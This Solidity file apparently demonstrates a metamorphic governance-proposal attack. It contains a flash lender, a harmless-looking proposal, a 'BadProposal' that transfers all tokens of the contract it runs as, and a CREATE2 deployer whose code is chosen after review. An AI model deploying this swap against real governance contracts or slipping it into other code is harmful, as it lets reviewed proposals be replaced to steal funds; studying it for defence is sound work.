// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.34;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";

interface IBorrower {
    function onLoan(uint256 amount) external;
}

/// @notice Lends any amount of its tokens for the length of one call.
contract FlashLender {
    IERC20 public immutable token;

    constructor(IERC20 token_) {
        token = token_;
    }

    function lend(uint256 amount) external {
        uint256 before = token.balanceOf(address(this));
        require(token.transfer(msg.sender, amount), "not lent");
        IBorrower(msg.sender).onLoan(amount);
        require(token.balanceOf(address(this)) >= before, "not given back");
    }
}

/// @notice A proposal contract as it is reviewed: it does nothing bad.
contract GoodProposal {
    event Done();

    function run(IERC20, address) external {
        emit Done();
    }
}

/// @notice The one that stands there in the end: it takes the tokens of whoever it runs as.
contract BadProposal {
    function run(IERC20 token, address to) external {
        uint256 all = token.balanceOf(address(this));
        if (all != 0) require(token.transfer(to, all), "not taken");
    }
}

/// @notice Puts a code of later choice at an address that is known beforehand: the code that creates it asks for it.
contract Metamorph {
    address public implementation;

    function aim(address implementation_) external {
        implementation = implementation_;
    }

    function place() public view returns (address) {
        bytes32 hash = keccak256(
            abi.encodePacked(bytes1(0xff), address(this), bytes32(0), keccak256(type(Shape).creationCode))
        );
        return address(uint160(uint256(hash)));
    }

    function appear() external returns (address) {
        return address(new Shape{salt: 0}());
    }
}

/// @dev Its creation code is always the same; the code that it leaves is that of the implementation of the moment.
contract Shape {
    constructor() {
        bytes memory code = Metamorph(msg.sender).implementation().code;
        assembly {
            return(add(code, 32), mload(code))
        }
    }
}
